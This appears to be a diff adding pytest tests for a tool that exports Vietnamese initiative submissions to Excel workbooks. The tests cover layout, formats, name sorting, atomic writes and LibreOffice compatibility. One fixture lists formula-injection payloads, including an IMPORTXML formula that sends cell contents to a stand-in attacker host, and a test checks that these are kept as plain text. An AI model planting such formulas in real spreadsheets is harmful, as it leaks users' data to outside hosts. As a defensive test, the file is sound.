@@ -1,0 +1,117 @@
+"""Workbooks as an officer opens them: layout, types, formulas kept as text, atomic replacement."""
+
+import shutil
+import subprocess
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from sync.config import read_settings
+from sync.errors import SyncError
+from sync.pipeline import run_sync
+from sync.templates import load_templates
+from sync.writers import xlsx
+
+FORMULAS = ['=IMPORTXML("http://evil.example/?q="&A2, "//a")', "+84 912 820 510", "-1+2", "@SUM(1)"]
+
+
+@pytest.fixture
+def written(small_campaign, tmp_path):
+    rows = [{"description": text, "full_name": f"Người {i}", "phone": f"09120000{i:02d}"}
+            for i, text in enumerate(FORMULAS)]  # fmt: skip
+    rows.append({"timestamp": "23/04/2021 00:00:00", "full_name": "Đỗ Văn Muộn",
+                 "title": "Gửi muộn", "description": "Khác hẳn."})  # fmt: skip
+    result = run_sync(read_settings(small_campaign(rows)))
+    return result, tmp_path / "out"
+
+
+def workbook_of(out: Path, unit_id: str) -> openpyxl.Workbook:
+    [path] = out.glob(f"*/{unit_id} *.xlsx")
+    return openpyxl.load_workbook(path)
+
+
+def test_one_workbook_per_reviewing_unit(written) -> None:
+    _, out = written
+    names = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.xlsx"))
+    assert len(names) == 9  # every unit of the small tree
+    assert any(n.startswith("1-tinh/P ") for n in names)
+    assert any(n.startswith("3-co-so/P.TG.THPT ") for n in names)
+    assert not list(out.rglob(".*"))  # no temporary files left behind
+
+
+def test_formula_looking_text_stays_text(written) -> None:
+    _, out = written
+    sheet = workbook_of(out, "P.TG.THPT")["Sáng kiến"]
+    headers = [c.value for c in sheet[1]]
+    column = headers.index("Mô tả sáng kiến") + 1
+    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+    assert {c.value for c in cells} >= set(FORMULAS)
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_layout_headers_formats_and_highlights(written) -> None:
+    _, out = written
+    book = workbook_of(out, "P")
+    assert book.sheetnames == ["Bảng điều khiển", "Sáng kiến", "Lỗi cần sửa", "Tổng hợp",
+                               "Dữ liệu biểu đồ"]  # fmt: skip
+    sheet = book["Sáng kiến"]
+    layout = load_templates().sheets["initiatives"]
+    assert [c.value for c in sheet[1]] == [c.header for c in layout.columns]
+    assert sheet.freeze_panes == "C2"
+    assert sheet.auto_filter.ref.startswith("A1:")
+    headers = [c.value for c in sheet[1]]
+    stamp = sheet.cell(row=2, column=headers.index("Thời gian gửi") + 1)
+    assert stamp.number_format == "dd/mm/yyyy hh:mm:ss" and stamp.value.year == 2021
+    money = sheet.cell(row=2, column=headers.index("Giá trị làm lợi (đồng)") + 1)
+    assert money.value == 2_000_000 and "#,##0" in money.number_format
+    assert sheet.conditional_formatting  # invalid and duplicate rows are highlighted
+    assert len(book["Bảng điều khiển"]._charts) == 4
+
+
+def test_people_sorted_by_given_name_in_vietnamese_order(small_campaign, tmp_path) -> None:
+    names = ["Trần Văn Bình", "Nguyễn Thị An", "Lê Ánh", "Đỗ Anh", "Vũ Thị Đào", "Hà Văn Dũng"]
+    rows = [{"full_name": n, "phone": f"09130000{i:02d}", "title": f"Sáng kiến {n}",
+             "description": f"Nội dung riêng của {n}"} for i, n in enumerate(names)]  # fmt: skip
+    run_sync(read_settings(small_campaign(rows)))
+    sheet = workbook_of(tmp_path / "out", "P.TG.THPT")["Sáng kiến"]
+    column = [c.value for c in sheet[1]].index("Họ và tên") + 1
+    listed = [sheet.cell(row=r, column=column).value for r in range(2, sheet.max_row + 1)]
+    assert listed == ["Nguyễn Thị An", "Đỗ Anh", "Lê Ánh", "Trần Văn Bình", "Hà Văn Dũng",
+                      "Vũ Thị Đào"]  # fmt: skip
+
+
+def test_a_failed_write_leaves_the_previous_workbook(written, monkeypatch) -> None:
+    _, out = written
+    [path] = out.glob("1-tinh/*.xlsx")
+    before = path.read_bytes()
+
+    def crash(*args, **kwargs):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(xlsx, "write_table", crash)
+    settings = read_settings(Path(out.parent / "config.yaml"))
+    with pytest.raises((OSError, SyncError)):
+        run_sync(settings)
+    assert path.read_bytes() == before
+    assert not list(out.rglob(".*"))
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+def test_libreoffice_opens_every_sheet_without_repair(written, tmp_path) -> None:
+    _, out = written
+    [path] = out.glob("1-tinh/*.xlsx")
+    converted = tmp_path / "converted"
+    run = subprocess.run(
+        ["soffice", "--headless", "--calc", "--convert-to", "ods", "--outdir", str(converted),
+         str(path)],
+        capture_output=True, text=True, timeout=180,
+    )  # fmt: skip
+    assert run.returncode == 0, run.stderr
+    [ods] = converted.glob("*.ods")
+    from python_calamine import CalamineWorkbook
+
+    reopened = CalamineWorkbook.from_path(str(ods))
+    assert reopened.sheet_names == openpyxl.load_workbook(path).sheetnames
+    rows = reopened.get_sheet_by_name("Sáng kiến").to_python()
+    assert len(rows) == 1 + 5
